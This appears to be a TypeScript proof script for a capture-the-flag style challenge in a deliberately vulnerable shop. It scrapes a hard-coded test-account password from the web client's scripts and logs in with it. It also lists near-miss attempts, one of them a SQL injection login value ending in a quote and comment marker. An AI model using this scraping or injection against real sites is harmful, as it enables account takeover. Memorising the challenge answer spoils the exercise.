import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password: string) =>
  attacker.post('/rest/user/login', { email, password })
const asTester = (attacker: Attacker, password: string) => signIn(attacker, `testing@${attacker.domain}`, password)

/** Returns the password in the web client's scripts. A shop without a built web client has none, so the known password is used. */
async function passwordInScripts(attacker: Attacker): Promise<string> {
  const page = await attacker.get('/', { headers: { accept: 'text/html' } })
  for (const [, address] of page.text.matchAll(/<script[^<>]+src="([^"<>]+\.js)"/g)) {
    const { text } = await attacker.get(new URL(address!, 'http://shop/').pathname)
    const [, password] = /testing@.{0,20}password:\s*["'`](\w+)/.exec(text) ?? []
    if (password) return password
  }
  return 'IamUsedForTesting'
}

export const proof = prove(challenge, {
  exploit: async (attacker) => asTester(attacker, await passwordInScripts(attacker)),
  nearMisses: {
    'reading the page, without signing in': (attacker) => passwordInScripts(attacker),
    'the password in small letters': (attacker) => asTester(attacker, 'iamusedfortesting'),
    'the name of the account for a password': (attacker) => asTester(attacker, 'testing'),
    'the password at another account': (attacker) => signIn(attacker, `admin@${attacker.domain}`, 'IamUsedForTesting'),
    'the name without the domain': (attacker) => signIn(attacker, 'testing', 'IamUsedForTesting'),
    'the account entered by an injection, which never looks at the password': (attacker) =>
      signIn(attacker, `testing@${attacker.domain}'--`, 'IamUsedForTesting'),
  },
  bypasses: { 'leave-the-form-empty': (attacker) => asTester(attacker, 'IamUsedForTesting') },
})
